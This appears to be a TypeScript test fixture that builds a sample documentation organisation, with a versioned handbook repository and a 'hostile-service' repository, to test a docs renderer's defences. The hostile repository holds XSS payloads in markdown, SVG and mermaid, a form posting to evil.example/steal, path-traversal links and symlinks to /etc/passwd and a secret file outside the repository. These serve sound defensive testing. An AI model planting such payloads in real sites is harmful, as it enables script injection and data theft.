// A small organisation for the docs tests, made on disk by the test: a real git repository with
// release tags (versions, last-updated from commits), a repository whose docs are hostile, and a
// team. Made, not checked in: a symbolic link out of the repository and a 10 MB page do not belong
// in git.
import { execFileSync } from 'node:child_process';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=Docs Test', '-c', 'user.email=docs@example.com', '-c', 'init.defaultBranch=main', '-c', 'commit.gpgsign=false', '-c', 'tag.gpgsign=false', ...args], { cwd, stdio: 'pipe', env: { ...process.env, GIT_COMMITTER_DATE: process.env.GIT_COMMITTER_DATE } });

async function write(file: string, text: string | Buffer) {
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, text);
}

function commitAt(cwd: string, iso: string, message: string) {
  git(cwd, 'add', '-A');
  execFileSync('git', ['-c', 'user.name=Docs Test', '-c', 'user.email=docs@example.com', '-c', 'commit.gpgsign=false', 'commit', '-q', '-m', message], { cwd, env: { ...process.env, GIT_AUTHOR_DATE: iso, GIT_COMMITTER_DATE: iso } });
}

/** A 1×1 PNG, so an image can be checked as loaded. */
export const PIXEL_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

export const HANDBOOK = {
  ref: 'component:default/handbook-service',
  /** A word only on the guide page, for search. */
  searchWord: 'quokkaflux',
  v1Text: 'This is the first release of the handbook',
};

/** Writes the organisation under `root`; returns the catalog locations for backlot.config.yaml. */
export async function makeDocsOrg(root: string): Promise<string[]> {
  await write(path.join(root, 'org/catalog-info.yaml'), `apiVersion: backstage.io/v1alpha1
kind: Group
metadata:
  name: docs-team
  title: Docs Team
spec:
  type: team
  children: []
`);

  // A service with versioned docs in its own git repository.
  const repo = path.join(root, 'handbook-service');
  await write(path.join(repo, 'catalog-info.yaml'), `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: handbook-service
  title: Handbook Service
  description: Keeps the handbook.
  annotations:
    backstage.io/techdocs-ref: dir:.
spec:
  type: service
  lifecycle: production
  owner: group:docs-team
`);
  await write(path.join(repo, 'mkdocs.base.yml'), 'site_name: Base name (overridden)\nrepo_url: https://github.com/acme/handbook-service\nedit_uri: edit/main/docs/\n');
  await write(path.join(repo, 'mkdocs.yml'), `INHERIT: mkdocs.base.yml
site_name: Handbook
nav:
  - Home: index.md
  - Guides:
      - Setting up: guides/setup.md
      - Deep:
          - Internals: guides/internals.md
`);
  await write(path.join(repo, 'docs/index.md'), `# Handbook\n\n${HANDBOOK.v1Text}.\n\nRead [setting up](guides/setup.md).\n`);
  await write(path.join(repo, 'docs/guides/setup.md'), '# Setting up\n\nInstall it.\n');
  await write(path.join(repo, 'docs/guides/internals.md'), '# Internals\n\nHow it works.\n');
  git(repo, 'init', '-q');
  commitAt(repo, '2024-01-10T10:00:00Z', 'first docs');
  git(repo, 'tag', 'v1.0.0');
  await write(path.join(repo, 'docs/index.md'), `# Handbook\n\nThe handbook of the handbook service.\n\n![A pixel](img/pixel.png)\n\nRead [setting up](guides/setup.md#install) or the [internals](guides/internals.md).\n\n!!! note "Before you start"\n    You need access.\n\n> [!WARNING]\n> Mind the gap.\n`);
  await write(path.join(repo, 'docs/img/pixel.png'), PIXEL_PNG);
  await write(path.join(repo, 'docs/guides/setup.md'), `# Setting up\n\n## Install\n\nThe ${HANDBOOK.searchWord} step comes first.\n\n=== "npm"\n\n    \`\`\`sh\n    npm install handbook\n    \`\`\`\n\n=== "apt"\n\n    \`\`\`sh\n    apt-get install handbook\n    \`\`\`\n\n## Check\n\n\`\`\`mermaid\ngraph LR\n  install --> check\n\`\`\`\n\nBack [home](../index.md).\n`);
  commitAt(repo, '2024-03-05T12:00:00Z', 'second docs');
  git(repo, 'tag', 'v2.0.0');
  git(repo, 'tag', 'not-a-release');
  await write(path.join(repo, 'docs/guides/internals.md'), '# Internals\n\nHow it works, now with more detail.\n\nSee [a missing page](nowhere.md) and [a missing heading](setup.md#no-such-heading).\n');
  commitAt(repo, '2024-06-01T08:30:00Z', 'more internals');

  // A service whose docs try everything a hostile author might.
  const hostile = path.join(root, 'hostile-service');
  await write(path.join(hostile, 'catalog-info.yaml'), `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: hostile-service
  annotations:
    backstage.io/techdocs-ref: dir:.
spec:
  type: service
  lifecycle: experimental
  owner: group:docs-team
`);
  await write(path.join(hostile, 'mkdocs.yml'), 'site_name: Hostile\nnav: [index.md, {"Broken": [unclosed\n');
  await write(path.join(hostile, 'docs/index.md'), [
    '# Hostile',
    '',
    '<script>window.__pwned = "script"</script>',
    '',
    '<img src="x.png" onerror="window.__pwned = \'onerror\'">',
    '',
    '<a href="javascript:window.__pwned=\'js-link\'" id="js-html-link">html js link</a> [md js link](javascript:window.__pwned=1)',
    '',
    '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg-script"</script></svg>',
    '',
    '![evil svg](evil.svg) ![outside](https://evil.example/track.png) [escape](../../../etc/passwd) ![up](../catalog-info.yaml)',
    '',
    '<iframe src="https://evil.example/frame"></iframe><style>body { display: none }</style>',
    '',
    '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
    '',
    '<div style="position:fixed;inset:0;background:red" onclick="window.__pwned=\'click\'">overlay</div>',
    '',
    '<a href="https://evil.example/" onclick="window.__pwned=\'a-click\'" id="outside-link">outside</a>',
    '',
    '```mermaid',
    'graph LR',
    '  a["<img src=x onerror=window.__pwned=1>"] --> b',
    '  click a call window.__pwnedFn()',
    '```',
  ].join('\n'));
  await write(path.join(hostile, 'docs/evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  await write(path.join(hostile, 'docs/huge.md'), Buffer.alloc(10 * 1024 * 1024, 'a'));
  await symlink('/etc/passwd', path.join(hostile, 'docs/passwd.md'));
  await write(path.join(root, 'secret.md'), '# Secret outside the repository\n');
  await symlink(path.join(root, 'secret.md'), path.join(hostile, 'docs/secret.md'));
  return [path.join(root, 'org/catalog-info.yaml'), path.join(repo, 'catalog-info.yaml'), path.join(hostile, 'catalog-info.yaml')];
}

/** backlot.config.yaml for the docs organisation. */
export function docsOrgConfig(locations: string[], base = '/'): string {
  return `title: Docs test\nbase: ${base}\ncollectors: [catalog, docs]\ndocs:\n  versions:\n    tags: "v*"\n    last: 2\ncatalog:\n  locations:\n${locations.map((l) => `    - ${JSON.stringify(l)}`).join('\n')}\n`;
}
